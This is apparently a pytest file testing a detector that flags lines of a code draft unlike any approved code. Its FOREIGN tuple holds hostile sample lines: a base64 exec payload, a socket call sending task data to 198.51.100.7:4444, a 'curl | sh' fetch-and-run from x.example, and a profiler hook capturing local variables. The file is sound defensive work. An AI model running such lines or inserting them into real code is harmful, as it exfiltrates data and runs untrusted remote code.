"""Lines of a draft that the approved code has nothing like are found; ordinary ones are left in peace."""

from __future__ import annotations

import random

import pytest

from evolver_tui.core.estimate.unlike_lines import FEWEST_APPROVED, ApprovedCode, unlike_lines
from tests.support.reviewed_code import draft, traits

FOREIGN = (
    "exec(__import__('base64').b64decode('aW1wb3J0IG9zCg=='))",
    "__import__('socket').create_connection(('198.51.100.7', 4444)).sendall(str(task).encode())",
    "subprocess.Popen(['/bin/sh', '-c', 'curl -s http://x.example/a | sh'], shell=False)",
    "sys.setprofile(lambda frame, event, argument: kept.append(frame.f_locals))",
)


def ordinary_drafts(count: int, seed: int) -> list[str]:
    dice = random.Random(seed)
    return [
        draft(dice, traits(dice)._replace(reaches_network=False, runs_programs=False, evaluates=False))
        for _ in range(count)
    ]


@pytest.mark.parametrize("foreign", FOREIGN)
@pytest.mark.parametrize("approved", [5, 40])
def test_a_foreign_line_is_found(foreign: str, approved: int) -> None:
    known = ApprovedCode(ordinary_drafts(approved, 1))
    for code in ordinary_drafts(5, 2):
        lines = code.split("\n")
        lines.insert(5, foreign)
        assert 6 in [each.line for each in known.unlike_lines("\n".join(lines))]


@pytest.mark.parametrize("approved", [3, 10, 200])
def test_few_lines_of_ordinary_drafts_are_marked(approved: int) -> None:
    known = ApprovedCode(ordinary_drafts(approved, 1))
    drafts = ordinary_drafts(30, 2)
    marked = sum(len(known.unlike_lines(code)) for code in drafts)
    assert marked < 0.03 * sum(code.count("\n") for code in drafts)


def test_with_few_approved_programs_nothing_is_told() -> None:
    approved = ordinary_drafts(FEWEST_APPROVED - 1, 1)
    assert unlike_lines(FOREIGN[0], approved) == ()
    assert unlike_lines(FOREIGN[0], approved * 5) == (), "one program many times is one"
    assert unlike_lines(FOREIGN[0], []) == ()


def test_an_approved_program_is_like_itself() -> None:
    approved = ordinary_drafts(6, 1)
    assert unlike_lines(approved[2], approved) == ()


def test_prose_is_not_judged_but_code_beside_it_is() -> None:
    approved = ordinary_drafts(6, 1)
    prose = "Quibbling zephyrs vex jumpy wizards, while foxes hang bulky proxies overboard."
    assert unlike_lines(f'"""{prose}\n\n{prose}"""\n# {prose}\n\n', approved) == ()
    assert [each.line for each in unlike_lines(f'"""A.\n\nB."""; {FOREIGN[0]}\n', approved)] == [3]
    assert [each.line for each in unlike_lines(f'class A({FOREIGN[0]}): """A."""\n', approved)] == [1]
    assert [each.line for each in unlike_lines(f'a = 1\nb = """\n{prose}"""\n', approved)] == [3]


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\r"])
def test_lines_count_as_python_counts_them(ending: str) -> None:
    code = ending.join(('"""A."""', "import json", FOREIGN[1], ""))
    assert [each.line for each in unlike_lines(code, ordinary_drafts(6, 1))] == [3]


@pytest.mark.parametrize(
    "code", ["", "\0", "\ud800" * 100, "(" * 10_000, "x" * 1_000_000, "\x1b]0;a\x07\u202e", "\x0c\n\x0b\n\x85"]
)
def test_any_text_is_judged(code: str) -> None:
    approved = ordinary_drafts(4, 1)
    unlike_lines(code, approved)
    unlike_lines(approved[0], [*approved, code])


def test_a_large_draft_is_judged_as_far_as_its_bound() -> None:
    known = ApprovedCode(ordinary_drafts(10, 1))
    lines = [f"value_{number} = make({random.Random(number).random()}, 'rarely seen text {number}')"
             for number in range(7_000)]  # fmt: skip
    found = known.unlike_lines("\n".join(lines))
    assert found
    assert found[-1].line <= 5_000
